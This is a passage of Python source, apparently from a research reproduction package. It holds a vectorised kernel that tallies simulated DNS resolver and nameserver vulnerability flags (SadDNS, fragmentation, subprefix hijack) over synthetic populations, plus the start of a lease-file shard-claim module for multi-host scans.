them, so the folded :class:`repro.atlas.aggregate.ScanAggregate` is
bit-identical to the serial scan — the atlas store checksums prove it
on every CI run.

Exactness escapes: streams the vector path cannot reproduce exactly
(short ``init_by_array`` keys, a rejection-loop runaway past the word
budget) fall back to the scalar per-entity scan for just those
entities.  Without numpy the kernel drops to a pure-Python columnar
path over :mod:`array` buffers — same two-phase structure, no third-
party dependency, so tier-1 environments never need numpy.
"""

from __future__ import annotations

import hashlib
import math
import random
from array import array

from repro.atlas.aggregate import _STRATUM_KEYS, ScanAggregate
from repro.atlas.shards import dataset_kind
from repro.atlas.synth import iter_entities
from repro.core.rng import DeterministicRNG
from repro.measurements.population import (
    EDNS_BIG_CHOICES,
    EDNS_MID_CHOICES,
    MIN_FRAG_CHOICES,
    MixSampler,
    NameserverProfile,
    _deterministic_burst_errors,
    domain_rates,
    resolver_prefix_mix,
    resolver_rates,
)
from repro.measurements.scanner import (
    FRAG_TEST_RESPONSE_SIZE,
    SADDNS_PROBE_BURST,
    SUBPREFIX_HIJACKABLE_BELOW,
    scan_nameserver_rrl,
)
from repro.parallel.mt import HAVE_NUMPY, LockstepMT, WordBudgetExceeded

if HAVE_NUMPY:
    import numpy as np

#: Streams per lockstep batch: large enough to amortise the per-vector-
#: op dispatch cost of the 1,247-step seeding walk, small enough that
#: the (624, B) state matrix stays cache-friendly.
VEC_BATCH = 12288

_TWO_PI = 6.283185307179586

#: The ICMP token bucket every generated resolver carries
#: (:class:`repro.measurements.population.IcmpBehaviour` defaults).
_ICMP_RATE = 1000.0
_ICMP_BURST = 50.0


def vector_available() -> bool:
    """Whether the numpy lockstep path is importable here."""
    return HAVE_NUMPY


def _det_saddns_verdict() -> bool:
    """The scan verdict for a non-randomised (deterministic) limiter."""
    return _deterministic_burst_errors(
        _ICMP_RATE, _ICMP_BURST, SADDNS_PROBE_BURST) == int(_ICMP_BURST)


def _rrl_verdict() -> bool:
    """The burst-scan verdict for any RRL-enabled nameserver."""
    probe = NameserverProfile(
        address="", asn=0, prefix_length=24, honours_ptb=False,
        min_frag_size=1500, rrl_enabled=True, ipid_global=False,
        supports_any=False, base_response_size=0)
    return scan_nameserver_rrl(probe)


def _root_material(seed, kind: str, key: str) -> bytes:
    """Seed material of the per-dataset atlas root RNG."""
    return DeterministicRNG(seed).derive(
        f"atlas/{kind}/{key}")._seed_material


def _derive_material(parent: bytes, label: bytes) -> bytes:
    """The ``DeterministicRNG.derive`` material chain, bytes-in/out."""
    return hashlib.sha256(hashlib.sha256(parent + label).digest()).digest()


# -- scalar SadDNS replay (fallback + reference) -----------------------------

def _scalar_saddns_replay(material: bytes) -> bool:
    """Exact randomised-budget replay for one ICMP stream material."""
    rng = random.Random(int.from_bytes(material, "big"))
    getrandbits = rng.getrandbits
    tokens = _ICMP_BURST
    errors = 0
    for _ in range(SADDNS_PROBE_BURST):
        draw = getrandbits(3)
        while draw >= 6:
            draw = getrandbits(3)
        cost = 1 + draw
        if tokens >= cost:
            tokens -= cost
            errors += 1
    return errors == int(_ICMP_BURST)


# -- numpy lockstep path -----------------------------------------------------

class _Draws:
    """Cursor-tracked draw primitives over one lockstep word matrix."""

    __slots__ = ("mt", "cur", "cols")

    def __init__(self, mt: LockstepMT):
        self.mt = mt
        self.cur = np.zeros(mt.batch, dtype=np.intp)
        self.cols = np.arange(mt.batch, dtype=np.intp)

    def _rows(self) -> "np.ndarray":
        need = int(self.cur.max()) + 1 if self.cur.size else 1
        # Round the request up so lazy growth doesn't recopy per word.
        return self.mt.words(min(((need + 15) // 16) * 16, 624)
                             if need <= 624 else need)

    def _gather(self, idx) -> "np.ndarray":
        words = self._rows()
        if idx is None:
            value = words[self.cur, self.cols]
            self.cur += 1
        else:
            value = words[self.cur[idx], idx]
            self.cur[idx] += 1
        return value

    def random(self, idx=None) -> "np.ndarray":
        """CPython ``random()``: two words folded into one double."""
        a = self._gather(idx)
        b = self._gather(idx)
        return ((a >> np.uint32(5)) * 67108864.0 + (b >> np.uint32(6))) \
            * (1.0 / 9007199254740992.0)

    def bits(self, bit_count: int, width: int, idx=None) -> "np.ndarray":
        """CPython ``_randbelow(width)``: top-bits draw with rejection."""
        shift = np.uint32(32 - bit_count)
        value = self._gather(idx) >> shift
        reject = value >= width
        while reject.any():
            where = np.flatnonzero(reject)
            sub = where if idx is None else idx[where]
            value[where] = self._gather(sub) >> shift
            reject = value >= width
        return value

    def chance(self, probability: float, idx=None) -> "np.ndarray":
        """Columnar ``DeterministicRNG.chance``: draw-free at 0 and 1."""
        size = self.mt.batch if idx is None else len(idx)
        if probability <= 0.0:
            return np.zeros(size, dtype=bool)
        if probability >= 1.0:
            return np.ones(size, dtype=bool)
        return self.random(idx) < probability


def _compile_mix(sampler: MixSampler):
    """(cumulative, values-with-fallback) arrays for a mix sampler."""
    cumulative = np.array(sampler.cumulative, dtype=np.float64)
    values = np.array(list(sampler.values) + [sampler.fallback],
                      dtype=np.int64)
    return cumulative, values


def _mix_draw(draws: _Draws, compiled) -> "np.ndarray":
    """``MixSampler.draw`` over a batch: ``bisect_left`` is exactly
    ``searchsorted(side="left")`` on the same cumulative floats."""
    cumulative, values = compiled
    point = draws.random()
    return values[np.searchsorted(cumulative, point, side="left")]


def _saddns_replay_batch(materials: list[bytes]) -> "np.ndarray":
    """Vectorised randomised-budget SadDNS replay over ICMP streams.

    The "exactly 50 errors from 51 probes off a 50-token budget"
    signature requires every accepted probe to cost one token, so a
    stream dies the moment an accepted 3-bit draw is non-zero — unless
    it is already past accepted position 45, where a landing pattern
    with one late rejection can still hit the target.  That tail (and
    any short-key stream) replays exactly on the scalar path; its
    probability is ~6^-45 per entity, so the vector loop typically
    retires the whole batch within a dozen word rows.
    """
    blob = b"".join(materials)
    mt = LockstepMT(blob)
    batch = mt.batch
    verdict = np.zeros(batch, dtype=bool)
    alive = np.ones(batch, dtype=bool)
    fallback = list(mt.irregular.tolist())
    if fallback:
        alive[mt.irregular] = False
    accepted = np.zeros(batch, dtype=np.int32)
    row = 0
    while alive.any():
        if row >= 624:
            fallback.extend(np.flatnonzero(alive).tolist())
            break
        words = mt.words(min(((row + 8) // 8) * 8, 624))
        value = words[row] >> np.uint32(29)
        accept = alive & (value < 6)
        nonzero = accept & (value != 0)
        # A non-zero accepted cost before position 46 can never recover
        # the all-ones budget; at 46+ the exact simulation decides.
        alive &= ~(nonzero & (accepted < 45))
        late = np.flatnonzero(nonzero & (accepted >= 45) & alive)
        if late.size:
            fallback.extend(late.tolist())
            alive[late] = False
        accepted += accept & alive
        done = alive & (accepted >= int(_ICMP_BURST))
        if done.any():
            verdict[done] = True
            alive &= ~done
        row += 1
    for index in fallback:
        verdict[index] = _scalar_saddns_replay(materials[index])
    return verdict


class VectorScanner:
    """Columnar scanner for one dataset's entity range.

    One instance per (spec, seed); :meth:`scan` folds any index range
    into a :class:`ScanAggregate`, batching internally.  All spec-level
    constants (rates, mixes, verdict constants, the root RNG material)
    are hoisted here so per-batch work is pure column math.
    """

    def __init__(self, spec, seed):
        self.spec = spec
        self.kind = dataset_kind(spec)
        self.root = _root_material(seed, self.kind, spec.key)
        self.seed = seed
        if self.kind == "resolver":
            self.rates = resolver_rates(spec)
            self.prefix_mix = _compile_mix(
                MixSampler(resolver_prefix_mix(spec)))
            self.det_verdict = _det_saddns_verdict()
            self.supported = spec.resolvers_per_frontend == 1
        else:
            rates = domain_rates(spec)
            self.rates = rates
            self.prefix_mix = _compile_mix(MixSampler(rates.prefix_mix))
            self.rrl_verdict = _rrl_verdict()
            self.min_frag = np.array(MIN_FRAG_CHOICES, dtype=np.int64)
            self.supported = True

    # -- public ---------------------------------------------------------------

    def scan(self, lo: int, hi: int,
             aggregate: ScanAggregate | None = None) -> ScanAggregate:
        """Fold entities ``[lo, hi)`` into ``aggregate`` (bit-identical
        to streaming them through the serial observers)."""
        if aggregate is None:
            aggregate = ScanAggregate(kind=self.kind)
        self.scan_spans([(lo, hi, aggregate)])
        return aggregate

    def scan_spans(self,
                   sinks: list[tuple[int, int, ScanAggregate]]) -> None:
        """One batched pass over contiguous cuts ``(lo, hi, aggregate)``.

        The cuts must tile an index range without gaps (shard ranges
        do); batches cross cut boundaries, so many small shards still
        seed their lockstep streams at the efficient batch size, and
        each batch's columns are sliced into the per-cut aggregates.
        """
        if not sinks:
            return
        lo = sinks[0][0]
        hi = sinks[-1][1]
        for (_, prev_hi, _), (next_lo, _, _) in zip(sinks, sinks[1:]):
            if prev_hi != next_lo:
                raise ValueError("scan_spans cuts must be contiguous")
        if not self.supported:
            for cut_lo, cut_hi, aggregate in sinks:
                _scan_scalar_range(self.spec, self.seed, cut_lo, cut_hi,
                                   aggregate)
            return
        span = hi - lo
        if span <= 0:
            return
        # Split the span evenly so no batch is left tiny (short batches
        # pay disproportionate seeding overhead per stream).
        batches = -(-span // VEC_BATCH)
        step = -(-span // batches)
        for batch_lo in range(lo, hi, step):
            batch_hi = min(batch_lo + step, hi)
            cuts = [cut for cut in sinks
                    if cut[0] < batch_hi and cut[1] > batch_lo]
            try:
                if self.kind == "resolver":
                    self._resolver_batch(batch_lo, batch_hi, cuts)
                else:
                    self._domain_batch(batch_lo, batch_hi, cuts)
            except WordBudgetExceeded:
                # A rejection-loop runaway consumed a whole twist
                # block; replay the batch on the scalar reference.
                for cut_lo, cut_hi, aggregate in cuts:
                    _scan_scalar_range(self.spec, self.seed,
                                       max(cut_lo, batch_lo),
                                       min(cut_hi, batch_hi), aggregate)

    # -- shared column plumbing -----------------------------------------------

    def _materials(self, lo: int, hi: int) -> list[bytes]:
        root = self.root
        sha = hashlib.sha256
        return [sha(sha(root + str(index).encode()).digest()).digest()
                for index in range(lo, hi)]

    def _scalar_entities(self, lo: int, indices, sinks) -> None:
        """Scalar-scan irregular streams (short init_by_array keys),
        routing each entity to the cut that owns its index."""
        for offset in indices:
            index = lo + int(offset)
            for cut_lo, cut_hi, aggregate in sinks:
                if cut_lo <= index < cut_hi:
                    _scan_scalar_range(self.spec, self.seed, index,
                                       index + 1, aggregate)
                    break

    # -- resolver columns -----------------------------------------------------

    def _resolver_batch(self, lo: int, hi: int, sinks) -> None:
        spec = self.spec
        rates = self.rates
        materials = self._materials(lo, hi)
        mt = LockstepMT(b"".join(materials))
        keep = None
        if mt.irregular.size:
            self._scalar_entities(lo, mt.irregular, sinks)
            keep = np.ones(mt.batch, dtype=bool)
            keep[mt.irregular] = False
        draws = _Draws(mt)

        reachable = ~draws.chance(spec.rate_unreachable)
        randomized = ~draws.chance(rates.conditional_saddns)
        # EDNS size: one point draw picks the 512/mid/big band; both
        # non-512 bands consume one choice-of-three (2-bit rejection).
        mix = spec.edns_mix
        point = draws.random()
        is_512 = point < mix[0]
        is_mid = ~is_512 & (point < mix[0] + mix[1])
        edns = np.full(mt.batch, 512, dtype=np.int64)
        need_choice = np.flatnonzero(~is_512)
        if need_choice.size:
            pick = draws.bits(2, 3, need_choice)
            mid = np.array(EDNS_MID_CHOICES, dtype=np.int64)
            big = np.array(EDNS_BIG_CHOICES, dtype=np.int64)
            chosen = np.where(is_mid[need_choice], mid[pick], big[pick])
            edns[need_choice] = chosen
        big_buffer = edns >= 1232
        accepts = np.zeros(mt.batch, dtype=bool)
        p_accept = rates.p_accept_given_big
        if p_accept >= 1.0:
            accepts = big_buffer.copy()
        elif p_accept > 0.0:
            big_idx = np.flatnonzero(big_buffer)
            if big_idx.size:
                accepts[big_idx] = draws.random(big_idx) < p_accept
        draws.bits(16, 60_000)                      # ASN (not scanned)
        prefix = _mix_draw(draws, self.prefix_mix)

        saddns = np.zeros(mt.batch, dtype=bool)
        if self.det_verdict:
            saddns |= reachable & ~randomized
        replay = np.flatnonzero(reachable & randomized)
        if replay.size:
            icmp = [_derive_material(materials[i], b"icmp-0")
                    for i in replay.tolist()]
            saddns[replay] = _saddns_replay_batch(icmp)
        frag = reachable & accepts & (edns >= FRAG_TEST_RESPONSE_SIZE)

        for cut_lo, cut_hi, aggregate in sinks:
            start = max(lo, cut_lo) - lo
            stop = min(hi, cut_hi) - lo
            if keep is None:
                sel = slice(start, stop)
            else:
                sel = np.flatnonzero(keep[start:stop]) + start
            _fold_resolver(aggregate, prefix[sel], reachable[sel],
                           edns[sel], saddns[sel], frag[sel])

    # -- domain columns -------------------------------------------------------

    def _domain_batch(self, lo: int, hi: int, sinks) -> None:
        spec = self.spec
        rates = self.rates
        n_ns = spec.ns_per_domain
        materials = self._materials(lo, hi)
        mt = LockstepMT(b"".join(materials))
        keep = None
        if mt.irregular.size:
            self._scalar_entities(lo, mt.irregular, sinks)
            keep = np.ones(mt.batch, dtype=bool)
            keep[mt.irregular] = False
        draws = _Draws(mt)
        batch = mt.batch

        frag_capable = np.zeros((n_ns, batch), dtype=bool)
        prefix = np.zeros((n_ns, batch), dtype=np.int64)
        min_frag = np.full((n_ns, batch), 1500, dtype=np.int64)
        rrl = np.zeros((n_ns, batch), dtype=bool)
        ipid = np.zeros((n_ns, batch), dtype=bool)
        any_ok = np.zeros((n_ns, batch), dtype=bool)
        # gauss() pairs: even nameservers burn two uniforms, odd ones
        # reuse the cached second normal — the pattern is unconditional,
        # so it is uniform across lockstep streams.
        u_pairs: list[tuple["np.ndarray", "np.ndarray"]] = []
        for sub in range(n_ns):
            capable = draws.chance(rates.p_frag_any)
            frag_capable[sub] = capable
            draws.bits(16, 60_000)                  # ASN (not scanned)
            prefix[sub] = _mix_draw(draws, self.prefix_mix)
            capable_idx = np.flatnonzero(capable)
            if capable_idx.size:
                pick = draws.bits(7, 100, capable_idx)
                min_frag[sub, capable_idx] = self.min_frag[pick]
            rrl[sub] = draws.chance(rates.p_rrl)
            if rates.p_global >= 1.0:
                ipid[sub] = capable
            elif rates.p_global > 0.0 and capable_idx.size:
                ipid[sub, capable_idx] = \
                    draws.random(capable_idx) < rates.p_global
            any_ok[sub] = draws.chance(0.85)
            if sub % 2 == 0:
                u_pairs.append((draws.random(), draws.random()))
        signed = draws.chance(spec.expected_dnssec / 100.0)

        # Base response sizes decide verdicts only on PMTUD-honouring
        # nameservers; the Box–Muller transcendentals run through
        # ``math`` per needed entity so the doubles match CPython's
        # ``gauss`` to the last bit (numpy's SIMD libm may not).
        frag_resp = np.zeros((n_ns, batch), dtype=bool)
        needed = np.flatnonzero(frag_capable.any(axis=0))
        if needed.size:
            base = np.zeros((n_ns, batch), dtype=np.int64)
            for column in needed.tolist():
                for pair, (u1, u2) in enumerate(u_pairs):
                    first = 2 * pair
                    if not frag_capable[first:first + 2, column].any():
                        continue
                    x2pi = float(u1[column]) * _TWO_PI
                    g2rad = math.sqrt(-2.0 * math.log(
                        1.0 - float(u2[column])))
                    base[first, column] = int(
                        140 + math.cos(x2pi) * g2rad * 40)
                    if first + 1 < n_ns:
                        base[first + 1, column] = int(
                            140 + math.sin(x2pi) * g2rad * 40)
            size = np.where(any_ok, base * 6 + 120, base)
            frag_resp = frag_capable & (size > min_frag)

        hijack = (prefix < SUBPREFIX_HIJACKABLE_BELOW).any(axis=0)
        saddns = rrl.any(axis=0) if self.rrl_verdict \
            else np.zeros(batch, dtype=bool)
        frag_any = frag_resp.any(axis=0)
        frag_global = (frag_resp & ipid).any(axis=0)

        for cut_lo, cut_hi, aggregate in sinks:
            start = max(lo, cut_lo) - lo
            stop = min(hi, cut_hi) - lo
            if keep is None:
                sel = slice(start, stop)
            else:
                sel = np.flatnonzero(keep[start:stop]) + start
            _fold_domain(aggregate, hijack[sel], saddns[sel],
                         frag_any[sel], frag_global[sel], signed[sel],
                         prefix[:, sel], frag_capable[:, sel],
                         min_frag[:, sel])


# -- numpy column folding ----------------------------------------------------

def _add_counts(counter, values, counts) -> None:
    for value, count in zip(values.tolist(), counts.tolist()):
        counter[value] += count


def _fold_strata(aggregate: ScanAggregate, hijack, saddns, frag) -> None:
    code = (hijack.astype(np.int64) * 4 + saddns * 2 + frag)
    counts = np.bincount(code, minlength=8)
    strata = aggregate.strata
    for code_value, count in enumerate(counts.tolist()):
        if count:
            strata[_STRATUM_KEYS[
                bool(code_value & 4), bool(code_value & 2),
                bool(code_value & 1)]] += count


def _fold_resolver(aggregate, prefix, reachable, edns, saddns,
                   frag) -> None:
    count = int(prefix.size)
    if not count:
        return
    aggregate.count += count
    hijack = prefix < SUBPREFIX_HIJACKABLE_BELOW
    flags = aggregate.flags
    for name, column in (("hijack", hijack), ("saddns", saddns),
                         ("frag", frag)):
        total = int(column.sum())
        if total:
            flags[name] += total
    _fold_strata(aggregate, hijack, saddns, frag)
    values, counts = np.unique(prefix, return_counts=True)
    _add_counts(aggregate._histogram("prefix_length"), values, counts)
    reachable_edns = edns[reachable]
    if reachable_edns.size:
        values, counts = np.unique(reachable_edns, return_counts=True)
        _add_counts(aggregate._histogram("edns_size"), values, counts)


def _fold_domain(aggregate, hijack, saddns, frag_any, frag_global,
                 signed, prefix, honours, min_frag) -> None:
    count = int(hijack.size)
    if not count:
        return
    aggregate.count += count
    flags = aggregate.flags
    for name, column in (("hijack", hijack), ("saddns", saddns),
                         ("frag_any", frag_any),
                         ("frag_global", frag_global),
                         ("dnssec", signed)):
        total = int(column.sum())
        if total:
            flags[name] += total
    _fold_strata(aggregate, hijack, saddns, frag_any | frag_global)
    values, counts = np.unique(prefix, return_counts=True)
    _add_counts(aggregate._histogram("prefix_length"), values, counts)
    honoured = min_frag[honours]
    if honoured.size:
        values, counts = np.unique(honoured, return_counts=True)
        _add_counts(aggregate._histogram("min_frag_size"), values, counts)


# -- scalar reference range (fallbacks) --------------------------------------

def _scan_scalar_range(spec, seed, lo: int, hi: int,
                       aggregate: ScanAggregate) -> ScanAggregate:
    """The streaming serial scan for ``[lo, hi)`` (the reference path)."""
    observe = aggregate.observe_front_end if aggregate.kind == "resolver" \
        else aggregate.observe_domain
    for entity in iter_entities(spec, seed=seed, lo=lo, hi=hi,
                                reuse_rng=True):
        observe(entity, single_use=True)
    return aggregate


# -- pure-Python columnar fallback -------------------------------------------

#: Column batch for the array-module fallback: big enough to keep the
#: two-phase structure honest, small enough to stay cache-resident.
PY_BATCH = 4096


def _python_resolver_range(spec, seed, lo: int, hi: int,
                           aggregate: ScanAggregate) -> None:
    rates = resolver_rates(spec)
    sampler = MixSampler(resolver_prefix_mix(spec))
    det_verdict = _det_saddns_verdict()
    root = DeterministicRNG(seed).derive(f"atlas/resolver/{spec.key}")
    scratch = DeterministicRNG(0)
    icmp = DeterministicRNG(0)
    rate_unreachable = spec.rate_unreachable
    conditional = rates.conditional_saddns
    p_accept = rates.p_accept_given_big
    mix = spec.edns_mix
    for batch_lo in range(lo, hi, PY_BATCH):
        batch_hi = min(batch_lo + PY_BATCH, hi)
        reachable = array("b")
        edns_col = array("i")
        prefix_col = array("i")
        saddns_col = array("b")
        frag_col = array("b")
        for index in range(batch_lo, batch_hi):
            scratch.rederive(root, str(index))
            alive = not scratch.chance(rate_unreachable)
            randomized = not scratch.chance(conditional)
            point = scratch.random()
            if point < mix[0]:
                edns = 512
            elif point < mix[0] + mix[1]:
                edns = scratch.choice(EDNS_MID_CHOICES)
            else:
                edns = scratch.choice(EDNS_BIG_CHOICES)
            accepts = scratch.chance(p_accept) if edns >= 1232 else False
            scratch.uniform_int(1, 60_000)          # ASN (not scanned)
            prefix = sampler.draw(scratch)
            if not alive:
                saddns = False
            elif not randomized:
                saddns = det_verdict
            else:
                icmp.rederive(scratch, "icmp-0")
                saddns = _pruned_saddns(icmp)
            reachable.append(alive)
            edns_col.append(edns)
            prefix_col.append(prefix)
            saddns_col.append(saddns)
            frag_col.append(alive and accepts
                            and edns >= FRAG_TEST_RESPONSE_SIZE)
        _py_fold_resolver(aggregate, reachable, edns_col, prefix_col,
                          saddns_col, frag_col)


def _pruned_saddns(rng: DeterministicRNG) -> bool:
    """The pruned randomised-budget replay (scan_saddns_verdict core)."""
    getrandbits = rng.getrandbits
    tokens = _ICMP_BURST
    target = int(_ICMP_BURST)
    errors = 0
    remaining = SADDNS_PROBE_BURST
    while remaining:
        draw = getrandbits(3)
        while draw >= 6:
            draw = getrandbits(3)
        cost = 1 + draw
        if tokens >= cost:
            tokens -= cost
            errors += 1
        remaining -= 1
        best = remaining if remaining < int(tokens) else int(tokens)
        if errors + best < target:
            return False
    return errors == target


def _py_fold_resolver(aggregate, reachable, edns_col, prefix_col,
                      saddns_col, frag_col) -> None:
    count = len(prefix_col)
    if not count:
        return
    aggregate.count += count
    flags = aggregate.flags
    strata = aggregate.strata
    prefix_hist = aggregate._histogram("prefix_length")
    hijack_total = saddns_total = frag_total = 0
    edns_hist = None
    for alive, edns, prefix, saddns, frag in zip(
            reachable, edns_col, prefix_col, saddns_col, frag_col):
        hijack = prefix < SUBPREFIX_HIJACKABLE_BELOW
        hijack_total += hijack
        saddns_total += saddns
        frag_total += frag
        strata[_STRATUM_KEYS[bool(hijack), bool(saddns),
                             bool(frag)]] += 1
        prefix_hist[prefix] += 1
        if alive:
            if edns_hist is None:
                edns_hist = aggregate._histogram("edns_size")
            edns_hist[edns] += 1
    if hijack_total:
        flags["hijack"] += hijack_total
    if saddns_total:
        flags["saddns"] += saddns_total
    if frag_total:
        flags["frag"] += frag_total


def _python_domain_range(spec, seed, lo: int, hi: int,
                         aggregate: ScanAggregate) -> None:
    rates = domain_rates(spec)
    sampler = MixSampler(rates.prefix_mix)
    rrl_verdict = _rrl_verdict()
    root = DeterministicRNG(seed).derive(f"atlas/domain/{spec.key}")
    scratch = DeterministicRNG(0)
    n_ns = spec.ns_per_domain
    p_dnssec = spec.expected_dnssec / 100.0
    for batch_lo in range(lo, hi, PY_BATCH):
        batch_hi = min(batch_lo + PY_BATCH, hi)
        hijack_col = array("b")
        saddns_col = array("b")
        frag_any_col = array("b")
        frag_global_col = array("b")
        signed_col = array("b")
        prefix_col = array("i")
        honours_col = array("b")
        min_frag_col = array("i")
        for index in range(batch_lo, batch_hi):
            scratch.rederive(root, str(index))
            hijack = saddns = frag_any = frag_global = False
            for _sub in range(n_ns):
                capable = scratch.chance(rates.p_frag_any)
                scratch.uniform_int(1, 60_000)      # ASN (not scanned)
                prefix = sampler.draw(scratch)
                min_frag = scratch.choice(MIN_FRAG_CHOICES) if capable \
                    else 1500
                rrl = scratch.chance(rates.p_rrl)
                ipid = capable and scratch.chance(rates.p_global)
                supports_any = scratch.chance(0.85)
                base = int(scratch.gauss(140, 40))
                prefix_col.append(prefix)
                honours_col.append(capable)
                min_frag_col.append(min_frag)
                if prefix < SUBPREFIX_HIJACKABLE_BELOW:
                    hijack = True
                if rrl and rrl_verdict:
                    saddns = True
                size = base * 6 + 120 if supports_any else base
                if capable and size > min_frag:
                    frag_any = True
                    if ipid:
                        frag_global = True
            hijack_col.append(hijack)
            saddns_col.append(saddns)
            frag_any_col.append(frag_any)
            frag_global_col.append(frag_global)
            signed_col.append(scratch.chance(p_dnssec))
        _py_fold_domain(aggregate, hijack_col, saddns_col, frag_any_col,
                        frag_global_col, signed_col, prefix_col,
                        honours_col, min_frag_col)


def _py_fold_domain(aggregate, hijack_col, saddns_col, frag_any_col,
                    frag_global_col, signed_col, prefix_col,
                    honours_col, min_frag_col) -> None:
    count = len(hijack_col)
    if not count:
        return
    aggregate.count += count
    flags = aggregate.flags
    strata = aggregate.strata
    totals = {"hijack": 0, "saddns": 0, "frag_any": 0,
              "frag_global": 0, "dnssec": 0}
    for hijack, saddns, frag_any, frag_global, signed in zip(
            hijack_col, saddns_col, frag_any_col, frag_global_col,
            signed_col):
        totals["hijack"] += hijack
        totals["saddns"] += saddns
        totals["frag_any"] += frag_any
        totals["frag_global"] += frag_global
        totals["dnssec"] += signed
        strata[_STRATUM_KEYS[bool(hijack), bool(saddns),
                             bool(frag_any or frag_global)]] += 1
    for name, total in totals.items():
        if total:
            flags[name] += total
    prefix_hist = aggregate._histogram("prefix_length")
    min_frag_hist = None
    for prefix, honours, min_frag in zip(prefix_col, honours_col,
                                         min_frag_col):
        prefix_hist[prefix] += 1
        if honours:
            if min_frag_hist is None:
                min_frag_hist = aggregate._histogram("min_frag_size")
            min_frag_hist[min_frag] += 1


# -- entry point -------------------------------------------------------------

def scan_range(spec, seed, lo: int, hi: int,
               aggregate: ScanAggregate | None = None,
               kernel: str = "auto") -> ScanAggregate:
    """Columnar scan of entities ``[lo, hi)`` of one dataset.

    ``kernel`` picks the path: ``"vector"`` (numpy lockstep, raises
    without numpy), ``"python"`` (array-module columns), ``"scalar"``
    (the per-entity reference), or ``"auto"`` (vector when numpy is
    importable, else python).  All paths produce bit-identical
    aggregates.
    """
    if kernel == "auto":
        kernel = "vector" if HAVE_NUMPY else "python"
    if kernel == "vector":
        if not HAVE_NUMPY:
            raise RuntimeError("numpy is not available for kernel='vector'")
        return VectorScanner(spec, seed).scan(lo, hi, aggregate)
    if aggregate is None:
        aggregate = ScanAggregate(kind=dataset_kind(spec))
    if kernel == "scalar":
        return _scan_scalar_range(spec, seed, lo, hi, aggregate)
    if kernel != "python":
        raise ValueError(f"unknown kernel {kernel!r}")
    if dataset_kind(spec) == "resolver" \
            and spec.resolvers_per_frontend != 1:
        return _scan_scalar_range(spec, seed, lo, hi, aggregate)
    if aggregate.kind == "resolver":
        _python_resolver_range(spec, seed, lo, hi, aggregate)
    else:
        _python_domain_range(spec, seed, lo, hi, aggregate)
    return aggregate
