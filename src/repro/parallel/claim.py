"""Multi-host shard claims: lease files over the atlas JSONL store.

Independent worker processes — including processes on different hosts
sharing a filesystem — cooperate on one population scan without any
coordinator process: each worker repeatedly *claims* a shard the store
does not yet hold, scans it, appends the result, and releases the
claim.  A claim is a lease file created with ``O_CREAT | O_EXCL`` (the
only portable atomic "first writer wins" primitive on shared
filesystems) next to the population's JSONL file; its mtime is the
heartbeat.  A worker killed mid-shard leaves a lease that stops
heartbeating, so after ``ttl`` seconds any other worker breaks it and
re-claims the shard.  The race where two workers briefly hold the same
expired shard is benign by construction: the scan is deterministic and
the store keeps the last complete record per shard id, so duplicate
appends carry identical aggregates.

When every shard is stored, :func:`merge_claimed` (or a plain
``scan_dataset`` against the same store) assembles the report — bit-
identical to an uninterrupted serial scan regardless of how many
workers died along the way.
"""

from __future__ import annotations

import json
import os
import time
from dataclasses import dataclass
from pathlib import Path

from repro.atlas.shards import (
    DatasetSpec,
    dataset_kind,
    population_spec_hash,
    shard_ranges,
)
from repro.atlas.store import AtlasStore, ShardRecord
from repro.obs import OBS

#: Default lease time-to-live.  Heartbeats refresh the lease after
#: every shard batch, so the TTL only needs to exceed one shard's scan
#: time plus filesystem mtime granularity.
DEFAULT_TTL = 60.0


def _lease_dir(store: AtlasStore, spec_hash: str) -> Path:
    return store.root / f"{spec_hash}.leases"


def _lease_path(store: AtlasStore, spec_hash: str, shard_id: int) -> Path:
    return _lease_dir(store, spec_hash) / f"{shard_id}.lease"


def _write_exclusive(path: Path, payload: str) -> bool:
    try:
        handle = os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY)
    except FileExistsError:
        return False
    try:
        os.write(handle, payload.encode("utf-8"))
    finally:
        os.close(handle)
    return True


def _lease_age(path: Path) -> float | None:
    try:
        return time.time() - path.stat().st_mtime
    except OSError:
        return None


@dataclass
class ClaimOutcome:
    """What one worker's claim loop accomplished."""

    worker: str
    scanned: list[int]
    skipped: list[int]
    broken: list[int]

    def to_json(self) -> dict:
        return {"worker": self.worker, "scanned": self.scanned,
                "skipped": self.skipped, "broken": self.broken}


def claim_shard(store: AtlasStore, spec_hash: str, shard_id: int,
                worker: str, ttl: float = DEFAULT_TTL,
                broken: list[int] | None = None) -> bool:
    """Try to lease one shard; breaks an expired lease first."""
    lease = _lease_path(store, spec_hash, shard_id)
    lease.parent.mkdir(parents=True, exist_ok=True)
    payload = json.dumps({"worker": worker, "claimed_at": time.time()})
    if _write_exclusive(lease, payload):
        return True
    age = _lease_age(lease)
    if age is None:
        # The holder released between our two checks; try once more.
        return _write_exclusive(lease, payload)
    if age <= ttl:
        return False
    # Expired: the holder died (or lost the filesystem).  Take the
    # lease over atomically; losers of the replace race scan the shard
    # anyway and the duplicate append is identical, so takeover races
    # cost duplicated work, never correctness.
    takeover = lease.with_suffix(f".takeover.{worker}.{os.getpid()}")
    if not _write_exclusive(takeover, payload):
        return False
    os.replace(takeover, lease)
    if broken is not None:
        broken.append(shard_id)
    return True


def release_shard(store: AtlasStore, spec_hash: str,
                  shard_id: int) -> None:
    lease = _lease_path(store, spec_hash, shard_id)
    try:
        lease.unlink()
    except OSError:
        pass


def claim_worker(spec: DatasetSpec, seed: int | str = 0,
                 entities: int | None = None, shards: int = 16,
                 store: AtlasStore | None = None, worker: str = "",
                 ttl: float = DEFAULT_TTL, kernel: str = "auto",
                 max_shards: int | None = None) -> ClaimOutcome:
    """Run one claim-mode worker until no shard is left to claim.

    Loops over the population's shard layout: shards already in the
    store are skipped, currently-leased shards are left to their
    holders, and everything else is claimed, scanned and appended.  The
    loop passes over the layout repeatedly so shards freed by expired
    leases are picked up; it exits when a pass finds nothing claimable.
    """
    if store is None:
        raise ValueError("claim mode requires a store")
    from repro.parallel.kernel import scan_range

    worker = worker or f"{os.uname().nodename}-{os.getpid()}"
    kind = dataset_kind(spec)
    total = min(entities, spec.full_size) if entities is not None \
        else spec.full_size
    spec_hash = population_spec_hash(spec, seed, total)
    ranges = shard_ranges(total, shards)
    outcome = ClaimOutcome(worker=worker, scanned=[], skipped=[],
                           broken=[])
    while True:
        done = set(store.load(spec_hash))
        todo = [r for r in ranges if r.shard_id not in done]
        if not todo:
            break
        claimed_any = False
        for shard in todo:
            if max_shards is not None \
                    and len(outcome.scanned) >= max_shards:
                return outcome
            if not claim_shard(store, spec_hash, shard.shard_id, worker,
                               ttl=ttl, broken=outcome.broken):
                outcome.skipped.append(shard.shard_id)
                if OBS.enabled:
